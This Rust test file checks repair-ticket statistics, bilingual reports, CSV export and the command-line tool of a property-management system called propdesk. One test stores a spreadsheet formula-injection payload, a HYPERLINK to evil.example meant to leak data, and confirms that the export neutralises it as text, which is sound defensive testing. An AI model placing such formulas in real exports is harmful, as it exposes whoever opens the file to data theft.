//! The management figures and the ticket export against a real database:
//! tickets are written as rows, the way the repair flow leaves them, and the
//! figures are checked against what a manager would count by hand.

use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
use chrono_tz::Asia::Shanghai;
use propdesk::domain::period::Period;
use propdesk::domain::{Category, Status};
use propdesk::i18n::{Locale, Text};
use propdesk::services::export::{HEADER, tickets_csv};
use propdesk::services::people::Asker;
use propdesk::services::stats::{Figures, figures, figures_at};
use propdesk::store::testdb::{TestDb, fresh_database};

const WANG: i64 = 2001;
const LI: i64 = 2002;
const OWNER: i64 = 1001;

/// A community with units in buildings 1 and 2, an owner, and two technicians.
struct Community {
    db: TestDb,
    id: i64,
    room_1_101: i64,
    room_1_102: i64,
    room_2_201: i64,
}

async fn community() -> Community {
    let db = fresh_database().await.expect("a fresh test database");
    let id: i64 = sqlx::query_scalar("INSERT INTO communities (name) VALUES ('阳光花园') RETURNING id")
        .fetch_one(&db.pool)
        .await
        .unwrap();
    let mut units = Vec::new();
    for (building, entrance, room) in [("1", "1", "101"), ("1", "1", "102"), ("2", "", "201")] {
        let unit: i64 = sqlx::query_scalar(
            "INSERT INTO units (community_id, building, entrance, room) VALUES ($1, $2, $3, $4) RETURNING id",
        )
        .bind(id)
        .bind(building)
        .bind(entrance)
        .bind(room)
        .fetch_one(&db.pool)
        .await
        .unwrap();
        units.push(unit);
    }
    for (user, name) in [(OWNER, "王芳"), (WANG, "王师傅"), (LI, "李师傅")] {
        sqlx::query("INSERT INTO users (telegram_id, first_name, locale) VALUES ($1, $2, 'zh-CN')")
            .bind(user)
            .bind(name)
            .execute(&db.pool)
            .await
            .unwrap();
    }
    for (user, name, trade) in [(WANG, "王师傅", "plumbing"), (LI, "李师傅", "electrical")] {
        sqlx::query("INSERT INTO staff (telegram_id, name, trade) VALUES ($1, $2, $3)")
            .bind(user)
            .bind(name)
            .bind(trade)
            .execute(&db.pool)
            .await
            .unwrap();
    }
    Community { db, id, room_1_101: units[0], room_1_102: units[1], room_2_201: units[2] }
}

/// A ticket as the repair flow leaves it; steps are times after filing.
#[derive(Clone)]
struct Ticket {
    created: DateTime<Utc>,
    category: &'static str,
    urgency: &'static str,
    status: &'static str,
    unit: Option<i64>,
    common_area: Option<&'static str>,
    assignee: Option<i64>,
    accepted: Option<Duration>,
    onsite: Option<Duration>,
    done: Option<Duration>,
    closed: Option<Duration>,
    onsite_due: Duration,
    resolve_due: Duration,
    hold_since: Option<Duration>,
    cancelled: Option<Duration>,
    reopen_count: i32,
    rating: Option<i16>,
}

fn filed(created: DateTime<Utc>) -> Ticket {
    Ticket {
        created,
        category: "plumbing",
        urgency: "routine",
        status: "queued",
        unit: None,
        common_area: None,
        assignee: None,
        accepted: None,
        onsite: None,
        done: None,
        closed: None,
        onsite_due: Duration::hours(12),
        resolve_due: Duration::hours(72),
        hold_since: None,
        cancelled: None,
        reopen_count: 0,
        rating: None,
    }
}

impl Community {
    async fn add(&self, t: Ticket) -> i64 {
        static NEXT: std::sync::atomic::AtomicI32 = std::sync::atomic::AtomicI32::new(1);
        let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let after = |d: Option<Duration>| d.map(|d| t.created + d);
        let id: i64 = sqlx::query_scalar(
            "INSERT INTO tickets (number, community_id, category, trade, unit_id, common_area, description,
                 urgency, status, reporter_id, assignee_id, created_at, assigned_at, first_accepted_at,
                 accepted_at, onsite_at, first_done_at, done_at, closed_at, onsite_due_at, resolve_due_at,
                 hold_since, reopen_count, rating)
             VALUES ($1, $2, $3, 'plumbing', $4, $5, '漏水', $6, $7, $8, $9, $10, $11, $12, $12, $13, $14, $14,
                 $15, $16, $17, $18, $19, $20)
             RETURNING id",
        )
        .bind(format!("BX-{}-{n:04}", t.created.with_timezone(&Shanghai).format("%Y%m%d")))
        .bind(self.id)
        .bind(t.category)
        .bind(t.unit)
        .bind(t.common_area)
        .bind(t.urgency)
        .bind(t.status)
        .bind(OWNER)
        .bind(t.assignee)
        .bind(t.created)
        .bind(t.assignee.map(|_| t.created + Duration::minutes(1)))
        .bind(after(t.accepted))
        .bind(after(t.onsite))
        .bind(after(t.done))
        .bind(after(t.closed))
        .bind(t.created + t.onsite_due)
        .bind(t.created + t.resolve_due)
        .bind(after(t.hold_since))
        .bind(t.reopen_count)
        .bind(t.rating)
        .fetch_one(&self.db.pool)
        .await
        .unwrap();
        if let Some(cancelled) = t.cancelled {
            sqlx::query(
                "INSERT INTO ticket_events (ticket_id, at, actor_id, kind, from_status, to_status)
                 VALUES ($1, $2, $3, 'cancel', 'queued', 'cancelled')",
            )
            .bind(id)
            .bind(t.created + cancelled)
            .bind(OWNER)
            .execute(&self.db.pool)
            .await
            .unwrap();
        }
        id
    }

    async fn figures_at(&self, period: Period, today: NaiveDate, now: DateTime<Utc>) -> Figures {
        let (from, to) = period.utc_range(today, Shanghai);
        let mut conn = self.db.pool.acquire().await.unwrap();
        figures_at(&mut conn, Asker::Operator, from, to, now).await.unwrap().unwrap()
    }
}

fn shanghai(y: i32, m: u32, d: u32, h: u32, min: u32) -> DateTime<Utc> {
    Shanghai.with_ymd_and_hms(y, m, d, h, min, 0).unwrap().with_timezone(&Utc)
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn mins(m: i64) -> Duration {
    Duration::minutes(m)
}

fn hours(h: i64) -> Duration {
    Duration::hours(h)
}

/// Eight tickets filed in October 2026 (Shanghai time), judged as of one hour
/// after the last was filed:
///
/// | # | where | who | what happened | on site | fixed |
/// |---|---|---|---|---|---|
/// | 1 | 1栋 | 王 | accepted 5 min, on site 30 min, done 2 h, ★5 | met | met |
/// | 2 | 1栋 | 王 | 15 min, 3 h, done 30 h, reopened once, ★3 | met | met |
/// | 3 | 2栋 | 李 | emergency: 10 min, on site 40 min (due 20), done 5 h, ★4 | missed | met |
/// | 4 | common area | 李 | accepted 20 min, nobody came | missed | missed |
/// | 5 | 2栋 | — | filed an hour ago | not yet due | not yet due |
/// | 6 | 1栋 | — | cancelled after 5 min | not judged | not judged |
/// | 7 | 1栋 | — | urgent, cancelled after 3 h (due 2 h) | missed | not judged |
/// | 8 | 2栋 | 王 | 10 min, 1 h, on hold since 10 h in | met | paused |
async fn october(c: &Community) -> DateTime<Utc> {
    c.add(Ticket {
        status: "closed",
        unit: Some(c.room_1_101),
        assignee: Some(WANG),
        urgency: "urgent",
        accepted: Some(mins(5)),
        onsite: Some(mins(30)),
        done: Some(hours(2)),
        closed: Some(hours(3)),
        onsite_due: hours(2),
        resolve_due: hours(24),
        rating: Some(5),
        ..filed(shanghai(2026, 10, 10, 9, 0))
    })
    .await;
    c.add(Ticket {
        status: "closed",
        unit: Some(c.room_1_102),
        assignee: Some(WANG),
        accepted: Some(mins(15)),
        onsite: Some(hours(3)),
        done: Some(hours(30)),
        closed: Some(hours(50)),
        reopen_count: 1,
        rating: Some(3),
        ..filed(shanghai(2026, 10, 11, 10, 0))
    })
    .await;
    c.add(Ticket {
        status: "done",
        category: "electrical",
        urgency: "emergency",
        unit: Some(c.room_2_201),
        assignee: Some(LI),
        accepted: Some(mins(10)),
        onsite: Some(mins(40)),
        done: Some(hours(5)),
        onsite_due: mins(20),
        resolve_due: hours(12),
        rating: Some(4),
        ..filed(shanghai(2026, 10, 12, 20, 0))
    })
    .await;
    c.add(Ticket {
        status: "accepted",
        category: "common_facilities",
        common_area: Some("3号楼大堂"),
        assignee: Some(LI),
        accepted: Some(mins(20)),
        ..filed(shanghai(2026, 10, 20, 8, 0))
    })
    .await;
    let last = shanghai(2026, 10, 31, 22, 30);
    c.add(Ticket { category: "other", unit: Some(c.room_2_201), ..filed(last) }).await;
    c.add(Ticket {
        status: "cancelled",
        unit: Some(c.room_1_101),
        urgency: "urgent",
        onsite_due: hours(2),
        resolve_due: hours(24),
        cancelled: Some(mins(5)),
        ..filed(shanghai(2026, 10, 15, 9, 0))
    })
    .await;
    c.add(Ticket {
        status: "cancelled",
        unit: Some(c.room_1_102),
        urgency: "urgent",
        onsite_due: hours(2),
        resolve_due: hours(24),
        cancelled: Some(hours(3)),
        ..filed(shanghai(2026, 10, 16, 9, 0))
    })
    .await;
    c.add(Ticket {
        status: "on_hold",
        unit: Some(c.room_2_201),
        assignee: Some(WANG),
        accepted: Some(mins(10)),
        onsite: Some(hours(1)),
        hold_since: Some(hours(10)),
        ..filed(shanghai(2026, 10, 5, 14, 0))
    })
    .await;
    last + hours(1)
}

/// "Today" for the periods: last month is October 2026.
fn november_27() -> NaiveDate {
    day(2026, 11, 27)
}

#[tokio::test]
async fn last_months_figures_count_what_a_manager_would_count() {
    let c = community().await;
    let now = october(&c).await;
    let f = c.figures_at(Period::LastMonth, november_27(), now).await;
    let m = &f.overall;

    assert_eq!(m.tickets, 8);
    assert_eq!(
        f.by_status,
        vec![
            (Status::Queued, 1),
            (Status::Accepted, 1),
            (Status::OnHold, 1),
            (Status::Done, 1),
            (Status::Closed, 2),
            (Status::Cancelled, 2)
        ],
        "in the order of the workflow"
    );
    assert_eq!(f.by_category[0], (Category::Plumbing, 5), "most first");
    assert_eq!(f.by_category.iter().map(|(_, n)| n).sum::<i64>(), 8);

    // Accepted after 5, 10, 10, 15, 20 minutes.
    assert_eq!(m.accept_p50, Some(600.0));
    assert_eq!(m.accept_p90, Some(1080.0), "interpolated between 15 and 20 minutes");
    // On site after 30 min, 40 min, 1 h, 3 h.
    assert_eq!(m.onsite_p50, Some(3000.0));
    assert_eq!(m.onsite_p90, Some(8640.0));
    // Done after 2 h, 5 h, 30 h.
    assert_eq!(m.resolve_p50, Some(18_000.0));
    assert_eq!(m.resolve_p90, Some(90_000.0));
}

#[tokio::test]
async fn targets_count_late_and_unvisited_tickets_as_missed_and_skip_those_not_yet_due() {
    let c = community().await;
    let now = october(&c).await;
    let m = c.figures_at(Period::LastMonth, november_27(), now).await.overall;

    // On site: 1, 2, 8 met; 3 late, 4 never visited, 7 cancelled after its deadline: missed;
    // 5 not yet due and 6 withdrawn in time are not judged.
    assert_eq!((m.onsite_met, m.onsite_judged), (3, 6));
    // Fixed: 1, 2, 3 met; 4 missed; 5 not due; 6 and 7 cancelled before the deadline; 8 paused on hold.
    assert_eq!((m.resolve_met, m.resolve_judged), (3, 4));
    // Three were ever done, one of them reopened.
    assert_eq!((m.reopened, m.ever_done), (1, 3));
    assert_eq!((m.rating_avg, m.rated), (Some(4.0), 3));
}

#[tokio::test]
async fn a_ticket_put_on_hold_after_its_deadline_is_late_and_one_held_in_time_is_not() {
    let c = community().await;
    let held = |since| Ticket {
        status: "on_hold",
        assignee: Some(WANG),
        unit: Some(c.room_1_101),
        onsite: Some(hours(1)),
        hold_since: Some(since),
        resolve_due: hours(24),
        ..filed(shanghai(2026, 10, 5, 9, 0))
    };
    c.add(held(hours(30))).await;
    c.add(held(hours(20))).await;
    let m = c.figures_at(Period::LastMonth, november_27(), shanghai(2026, 11, 27, 9, 0)).await.overall;
    assert_eq!((m.resolve_met, m.resolve_judged), (0, 1));
}

#[tokio::test]
async fn each_technician_and_building_has_a_row_with_the_common_area_as_one() {
    let c = community().await;
    let now = october(&c).await;
    let f = c.figures_at(Period::LastMonth, november_27(), now).await;

    let staff: Vec<(Option<i64>, Option<&str>, i64)> =
        f.by_staff.iter().map(|r| (r.assignee_id, r.name.as_deref(), r.measures.tickets)).collect();
    assert_eq!(staff, vec![(Some(WANG), Some("王师傅"), 3), (None, None, 3), (Some(LI), Some("李师傅"), 2)]);
    let wang = &f.by_staff[0].measures;
    assert_eq!(wang.onsite_p50, Some(3600.0), "30 min, 1 h, 3 h");
    assert_eq!((wang.onsite_met, wang.onsite_judged), (3, 3));
    assert_eq!((wang.resolve_met, wang.resolve_judged), (2, 2));
    assert_eq!((wang.reopened, wang.ever_done), (1, 2));
    assert_eq!((wang.rating_avg, wang.rated), (Some(4.0), 2));
    let li = &f.by_staff[2].measures;
    assert_eq!((li.onsite_met, li.onsite_judged), (0, 2));
    assert_eq!((li.resolve_met, li.resolve_judged), (1, 2));
    assert_eq!(li.accept_p50, Some(900.0), "10 and 20 minutes");

    let buildings: Vec<(Option<&str>, i64, i64, i64)> = f
        .by_building
        .iter()
        .map(|r| (r.building.as_deref(), r.measures.tickets, r.measures.onsite_met, r.measures.onsite_judged))
        .collect();
    assert_eq!(buildings, vec![(Some("1"), 4, 2, 3), (Some("2"), 3, 1, 2), (None, 1, 0, 1)]);
}

#[tokio::test]
async fn the_report_reads_the_figures_in_chinese_and_english() {
    let c = community().await;
    let now = october(&c).await;
    let f = c.figures_at(Period::LastMonth, november_27(), now).await;
    let report = f.report(Period::LastMonth.label());

    let zh = report.render(Locale::ZhCn);
    for expected in [
        "📊 报修统计 · 上月",
        "共 8 单",
        "⏱ 接单用时：中位 10分钟，90% 在 18分钟 内",
        "🚶 上门用时：中位 50分钟，90% 在 2小时24分 内",
        "🔧 完成用时：中位 5小时，90% 在 1天1小时 内",
        "✅ 按时上门 50%（3/6），按时完成 75%（3/4）",
        "🔁 返修率 33%（1/3）",
        "⭐ 满意度 4.0 分（3 单评价）",
        "王师傅：3 单，上门中位 1小时，按时上门 100%，按时完成 100%，返修 50%，评分 4.0",
        "未派单：3 单，上门中位 —",
        "1栋：4 单",
        "公共区域：1 单",
    ] {
        assert!(zh.contains(expected), "{expected:?} missing from\n{zh}");
    }
    let en = report.render(Locale::En);
    for expected in ["📊 Repair figures · Last month", "8 tickets", "On site on time 50% (3/6)", "Bldg 2: 3 tickets"]
    {
        assert!(en.contains(expected), "{expected:?} missing from\n{en}");
    }
}

#[tokio::test]
async fn a_month_starts_and_ends_at_midnight_in_shanghai() {
    let c = community().await;
    let utc = |s: &str| DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc);
    for created in [
        "2026-09-30T15:59:59Z", // 23:59:59 on 30 September in Shanghai: September
        "2026-09-30T16:00:00Z", // midnight, 1 October: in
        "2026-10-31T15:59:59Z", // 23:59:59 on 31 October: in
        "2026-10-31T16:00:00Z", // midnight, 1 November: out
    ] {
        c.add(filed(utc(created))).await;
    }
    let f = c.figures_at(Period::LastMonth, november_27(), utc("2026-11-27T00:00:00Z")).await;
    assert_eq!(f.overall.tickets, 2);

    let custom = Period::parse_custom("2026-10-31 至 2026-11-01").unwrap();
    let f = c.figures_at(custom, november_27(), utc("2026-11-27T00:00:00Z")).await;
    assert_eq!(f.overall.tickets, 2, "31 October and 1 November, both days included");
}

#[tokio::test]
async fn a_period_without_tickets_has_no_figures_rather_than_zeros() {
    let c = community().await;
    let (from, to) = Period::ThisWeek.utc_range(november_27(), Shanghai);
    let mut conn = c.db.pool.acquire().await.unwrap();
    let f = figures(&mut conn, Asker::Operator, from, to).await.unwrap().unwrap();
    assert_eq!(f.overall.tickets, 0);
    assert_eq!((f.overall.onsite_p50, f.overall.rating_avg), (None, None));
    assert!(f.by_staff.is_empty() && f.by_building.is_empty());
    assert_eq!(
        f.report(Period::ThisWeek.label()).render(Locale::En),
        "📊 Repair figures · This week\nNo repair requests in this period."
    );
}

/// The export without its BOM, parsed.
fn parse_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a UTF-8 byte-order mark for Excel");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[tokio::test]
async fn the_export_has_a_header_and_one_row_per_ticket_in_local_time() {
    let c = community().await;
    october(&c).await;
    // Filed an hour ago: not yet due in the export, which judges as of now.
    let recent = Utc::now() - hours(1);
    c.add(Ticket { unit: Some(c.room_1_101), ..filed(recent) }).await;

    let (from, _) = Period::LastMonth.utc_range(november_27(), Shanghai);
    let (_, to) = Period::ThisMonth.utc_range(recent.with_timezone(&Shanghai).date_naive(), Shanghai);
    let mut out = Vec::new();
    let mut conn = c.db.pool.acquire().await.unwrap();
    let written = tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap();

    assert_eq!(written, 9);
    let rows = parse_csv(&out);
    assert_eq!(rows.len(), 10);
    assert_eq!(rows[0], HEADER);
    let column = |name: &str| HEADER.iter().position(|h| *h == name).unwrap();
    let row =
        |created: &str| rows.iter().find(|r| r[column("created")] == created).unwrap_or_else(|| panic!("{created}"));

    // Oldest first: the ticket on hold, filed 5 October at 14:00.
    assert_eq!(rows[1][column("created")], "2026-10-05 14:00");
    let first = row("2026-10-10 09:00");
    assert!(first[column("number")].starts_with("BX-20261010-"), "{first:?}");
    assert_eq!(
        (&first[column("building")][..], &first[column("entrance")][..], &first[column("room")][..]),
        ("1", "1", "101")
    );
    assert_eq!(first[column("assignee")], "王师傅");
    assert_eq!(first[column("assigned_at")], "2026-10-10 09:01");
    assert_eq!(first[column("first_accepted_at")], "2026-10-10 09:05");
    assert_eq!(first[column("onsite_at")], "2026-10-10 09:30");
    assert_eq!(first[column("first_done_at")], "2026-10-10 11:00");
    assert_eq!(first[column("closed_at")], "2026-10-10 12:00");
    assert_eq!(first[column("onsite_due_at")], "2026-10-10 11:00");
    assert_eq!(first[column("resolve_due_at")], "2026-10-11 09:00");
    assert_eq!((&first[column("onsite_met")][..], &first[column("resolve_met")][..]), ("1", "1"));
    assert_eq!((&first[column("rating")][..], &first[column("status")][..]), ("5", "closed"));

    let common = row("2026-10-20 08:00");
    assert_eq!(common[column("common_area")], "3号楼大堂");
    assert_eq!(common[column("building")], "");
    assert_eq!(common[column("onsite_at")], "", "nobody came");
    assert_eq!((&common[column("onsite_met")][..], &common[column("resolve_met")][..]), ("0", "0"));

    let late = row("2026-10-12 20:00");
    assert_eq!((&late[column("onsite_met")][..], &late[column("urgency")][..]), ("0", "emergency"));

    let last = rows.last().unwrap();
    assert_eq!(last[column("created")], recent.with_timezone(&Shanghai).format("%Y-%m-%d %H:%M").to_string());
    assert_eq!((&last[column("onsite_met")][..], &last[column("resolve_met")][..]), ("", ""), "not yet due");
}

#[tokio::test]
async fn an_empty_export_is_just_the_header() {
    let c = community().await;
    let (from, to) = Period::ThisWeek.utc_range(november_27(), Shanghai);
    let mut out = Vec::new();
    let mut conn = c.db.pool.acquire().await.unwrap();
    assert_eq!(tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap(), 0);
    assert_eq!(parse_csv(&out), vec![HEADER.map(str::to_owned).to_vec()]);
}

#[tokio::test]
async fn a_formula_an_owner_typed_reaches_the_export_as_text() {
    let c = community().await;
    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
    c.add(Ticket { common_area: Some(link), ..filed(shanghai(2026, 10, 3, 10, 0)) }).await;
    let (from, to) = Period::LastMonth.utc_range(november_27(), Shanghai);
    let mut out = Vec::new();
    let mut conn = c.db.pool.acquire().await.unwrap();
    assert_eq!(tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap(), 1);
    let rows = parse_csv(&out);
    let column = HEADER.iter().position(|h| *h == "common_area").unwrap();
    assert_eq!(rows[1][column], format!("'{link}"), "a leading quote keeps it text in Excel");
}

fn propdesk(db: &TestDb) -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_propdesk"));
    // Only what the test sets: no DATABASE_URL or .env from the developer's shell.
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("DATABASE_URL", &db.url)
        .current_dir(std::env::temp_dir());
    cmd
}

#[tokio::test]
async fn the_cli_exports_a_month_to_a_file() {
    let c = community().await;
    october(&c).await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("十月工单.csv");

    let out = propdesk(&c.db)
        .args(["export", "tickets", "--from", "2026-10-01", "--to", "2026-10-31", "--output"])
        .arg(&file)
        .output()
        .unwrap();

    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("8 tickets"), "{}", String::from_utf8_lossy(&out.stdout));
    let rows = parse_csv(&std::fs::read(&file).unwrap());
    assert_eq!(rows.len(), 9, "the header and eight tickets");
    assert_eq!(rows[0], HEADER);
    assert_eq!(rows[1][1], "2026-10-05 14:00", "in Asia/Shanghai, the default TIME_ZONE");
}

#[tokio::test]
async fn the_cli_writes_to_standard_output_and_honours_the_time_zone() {
    let c = community().await;
    october(&c).await;

    // In UTC the ticket filed at 08:00 on 20 October in Shanghai was filed at 00:00 the same day,
    // and the one filed at 22:30 on 31 October falls on the 31st at 14:30.
    let out = propdesk(&c.db)
        .args(["export", "tickets", "--from", "2026-10-20", "--to", "2026-10-31"])
        .env("TIME_ZONE", "UTC")
        // The log goes to standard output too (src/telemetry.rs uses fmt()'s default writer), and
        // sqlx notes at INFO that the migrations table exists: until the log moves to stderr,
        // `export tickets > file.csv` needs LOG_LEVEL=warn to get a clean file.
        .env("LOG_LEVEL", "warn")
        .output()
        .unwrap();

    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = parse_csv(&out.stdout);
    let created: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
    assert_eq!(created, vec!["2026-10-20 00:00", "2026-10-31 14:30"]);
}

#[tokio::test]
async fn the_cli_refuses_a_range_that_ends_before_it_starts() {
    let c = community().await;
    let out = propdesk(&c.db)
        .args(["export", "tickets", "--from", "2026-10-31", "--to", "2026-10-01", "-o", "never.csv"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("after --to"), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!std::env::temp_dir().join("never.csv").exists());
}

#[test]
fn the_report_title_uses_the_period_label() {
    let title =
        Figures::default().report(Text::new("stats-period-custom").arg("from", "2026-10-01").arg("to", "2026-10-31"));
    assert!(title.render(Locale::ZhCn).starts_with("📊 报修统计 · 2026-10-01 至 2026-10-31"));
}

/// `/stats satisfaction` counts a rating in the Shanghai month its ticket
/// closed in: 00:30 on 1 November in Shanghai is still 31 October in UTC.
#[tokio::test]
async fn ratings_fall_in_the_month_their_ticket_closed_in_shanghai() {
    use propdesk::services::satisfaction::{Ratings, satisfaction};
    let c = community().await;
    let closed_after = |created: DateTime<Utc>, closed: DateTime<Utc>, stars| Ticket {
        status: "closed",
        assignee: Some(WANG),
        closed: Some(closed - created),
        rating: Some(stars),
        ..filed(created)
    };
    let created = shanghai(2026, 10, 31, 20, 0);
    c.add(closed_after(created, shanghai(2026, 11, 1, 0, 30), 4)).await;
    c.add(closed_after(created, shanghai(2026, 10, 31, 23, 59), 2)).await;
    // Closed on the last minute before the six months began: left out.
    c.add(closed_after(shanghai(2026, 5, 31, 20, 0), shanghai(2026, 5, 31, 23, 59), 5)).await;
    let mut conn = c.db.pool.acquire().await.unwrap();
    let s = satisfaction(&mut conn, Asker::Operator, day(2026, 11, 27), Shanghai, 90).await.unwrap().unwrap();
    let months: Vec<(NaiveDate, Ratings)> = s.months.clone();
    assert_eq!(months.len(), 6);
    assert_eq!(months[0].0, day(2026, 6, 1));
    assert_eq!(months[4], (day(2026, 10, 1), Ratings { rated: 1, stars: 2, satisfied: 0 }));
    assert_eq!(months[5], (day(2026, 11, 1), Ratings { rated: 1, stars: 4, satisfied: 1 }));
    assert_eq!(s.overall(), Ratings { rated: 2, stars: 6, satisfied: 1 });
    assert_eq!(s.by_staff.len(), 1);
    assert_eq!((s.by_staff[0].name.as_deref(), s.by_staff[0].ratings.rated), (Some("王师傅"), 2));
    let text = s.report().render(Locale::En);
    assert!(text.starts_with("⭐ Satisfaction · 2026-06 to 2026-11\n2 ratings, average 3.0\n"), "{text}");
    assert!(text.contains("Satisfied (4–5 stars) 50% (1/2), target 90%: not met ⚠️"), "{text}");
    assert!(text.contains("2026-10: 1 rating, average 2.0, satisfied 0%"), "{text}");
}
